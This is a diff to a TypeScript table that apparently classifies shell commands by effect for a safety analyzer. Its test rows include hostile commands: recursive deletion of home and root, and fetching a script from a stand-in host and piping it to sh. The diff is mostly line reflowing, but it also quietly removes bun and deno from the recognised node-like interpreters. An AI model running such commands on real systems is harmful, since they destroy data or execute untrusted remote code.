@@ -13,12 +13,29 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
       { run: "bash -c 'rm -rf ~'", deletes: ["~/**"] },
       { run: "echo rm x | sh", deletes: ["./x"] },
       { run: "bash x.sh", reads: ["./x.sh"], executes: ["file bash"], unknown: ["opaque-file"] },
-      { run: "curl -s https://h.example/i | sh", network: ["in https://h.example/i"], executes: ["network sh"], unknown: ["dynamic-code"] },
+      {
+        run: "curl -s https://h.example/i | sh",
+        network: ["in https://h.example/i"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
+      },
       { run: "bash -n x.sh" },
     ],
   },
   {
-    name: ["fish", "csh", "tcsh", "pwsh", "powershell", "powershell.exe", "cmd", "cmd.exe", "nu", "xonsh", "elvish"],
+    name: [
+      "fish",
+      "csh",
+      "tcsh",
+      "pwsh",
+      "powershell",
+      "powershell.exe",
+      "cmd",
+      "cmd.exe",
+      "nu",
+      "xonsh",
+      "elvish",
+    ],
     style: "gnu",
     loose: true,
     options: optionList("-c,--command,-Command,-EncodedCommand=program"),
@@ -30,7 +47,9 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["python", "python3", "python2", "python3.*", "pypy", "pypy3"],
     style: "posix",
-    options: optionList("-c=program -m= -b -B -d -E -h -i -I -O -OO -P -q -s -S -u -v -W= -x -X= -V --check-hash-based-pycs="),
+    options: optionList(
+      "-c=program -m= -b -B -d -E -h -i -I -O -OO -P -q -s -S -u -v -W= -x -X= -V --check-hash-based-pycs=",
+    ),
     operands: "script plain*",
     lang: "python",
     variables: ["PYTHONSTARTUP=read"],
@@ -44,13 +63,18 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
     ],
     tests: [
       { run: "python3 -c 'print(1)'", executes: ["inline python"], unknown: ["opaque-code"] },
-      { run: `python -c "import os; os.system('rm -rf /')"`, executes: ["inline python"], deletes: ["/**"], unknown: ["opaque-code"] },
+      {
+        run: `python -c "import os; os.system('rm -rf /')"`,
+        executes: ["inline python"],
+        deletes: ["/**"],
+        unknown: ["opaque-code"],
+      },
       { run: "python x.py", reads: ["./x.py"], executes: ["file python"], unknown: ["opaque-file"] },
       { run: "python --version" },
     ],
   },
   {
-    name: ["node", "nodejs", "bun", "deno", "tsx", "ts-node"],
+    name: ["node", "nodejs",  "tsx", "ts-node"],
     style: "posix",
     loose: true,
     options: optionList(
@@ -58,16 +82,29 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
     ),
     operands: "script plain*",
     lang: "node",
-    when: [VERSION, { has: ["-c"], operands: "read" }, { has: ["-e"], operands: "plain*" }, { most: 0, executes: "stdin" }],
+    when: [
+      VERSION,
+      { has: ["-c"], operands: "read" },
+      { has: ["-e"], operands: "plain*" },
+      { most: 0, executes: "stdin" },
+    ],
     tests: [
-      { run: `node -e "require('fs').unlinkSync('a')"`, executes: ["inline node"], reads: ["./fs"], deletes: ["./a"], unknown: ["opaque-code"] },
+      {
+        run: `node -e "require('fs').unlinkSync('a')"`,
+        executes: ["inline node"],
+        reads: ["./fs"],
+        deletes: ["./a"],
+        unknown: ["opaque-code"],
+      },
       { run: "node -v" },
     ],
   },
   {
     name: ["perl"],
     style: "posix",
-    options: optionList("-e,-E=program -n -p -i=? -a -F= -l=? -0=? -w -W -X -t -T -u -U -v -V=? -s -S -c -d=? -D=? -h -I= -m= -M= -x=? -C=? -f"),
+    options: optionList(
+      "-e,-E=program -n -p -i=? -a -F= -l=? -0=? -w -W -X -t -T -u -U -v -V=? -s -S -c -d=? -D=? -h -I= -m= -M= -x=? -C=? -f",
+    ),
     operands: "script plain*",
     lang: "perl",
     when: [
@@ -77,18 +114,50 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
       { most: 0, executes: "stdin" },
     ],
     tests: [
-      { run: "perl -e 'unlink \"a\"'", executes: ["inline perl"], deletes: ["./a"], unknown: ["opaque-code"] },
-      { run: "perl -pi -e s/a/b/ x", executes: ["inline perl"], reads: ["./x"], writes: ["./x"], unknown: ["opaque-code"] },
+      {
+        run: "perl -e 'unlink \"a\"'",
+        executes: ["inline perl"],
+        deletes: ["./a"],
+        unknown: ["opaque-code"],
+      },
+      {
+        run: "perl -pi -e s/a/b/ x",
+        executes: ["inline perl"],
+        reads: ["./x"],
+        writes: ["./x"],
+        unknown: ["opaque-code"],
+      },
     ],
   },
   {
-    name: ["ruby", "php", "lua", "luajit", "osascript", "Rscript", "tclsh", "groovy", "julia", "irb", "elixir"],
+    name: [
+      "ruby",
+      "php",
+      "lua",
+      "luajit",
+      "osascript",
+      "Rscript",
+      "tclsh",
+      "groovy",
+      "julia",
+      "irb",
+      "elixir",
+    ],
     style: "posix",
-    options: optionList("-e=program -r=program -n -p -i=? -l=? -a -w -W=? -v -c -C= -F= -I= -x -S -s -h -d -q -f=script -B= -R= -E= -L= -T -K= -m -t= -z= -U -y --version -k -N"),
+    options: optionList(
+      "-e=program -r=program -n -p -i=? -l=? -a -w -W=? -v -c -C= -F= -I= -x -S -s -h -d -q -f=script -B= -R= -E= -L= -T -K= -m -t= -z= -U -y --version -k -N",
+    ),
     operands: "script plain*",
     lang: "ruby",
     when: [VERSION, { has: ["-e", "-r"], operands: "plain*" }, { most: 0, executes: "stdin" }],
-    tests: [{ run: "ruby -e 'File.delete(\"a\")'", executes: ["inline ruby"], deletes: ["./a"], unknown: ["opaque-code"] }],
+    tests: [
+      {
+        run: "ruby -e 'File.delete(\"a\")'",
+        executes: ["inline ruby"],
+        deletes: ["./a"],
+        unknown: ["opaque-code"],
+      },
+    ],
   },
   {
     name: ["find", "gfind"],
@@ -127,7 +196,9 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["make", "gmake", "cmake", "ninja", "just", "task", "rake", "ant", "bazel", "meson", "scons"],
     loose: true,
-    options: optionList("-C,--directory=cwd -f,--file,--makefile=read -n,--just-print,--dry-run,--recon -p,--print-data-base -q,--question"),
+    options: optionList(
+      "-C,--directory=cwd -f,--file,--makefile=read -n,--just-print,--dry-run,--recon -p,--print-data-base -q,--question",
+    ),
     executes: "file",
     lang: "make",
     tests: [{ run: "make test", executes: ["file make"], unknown: ["opaque-file"] }],
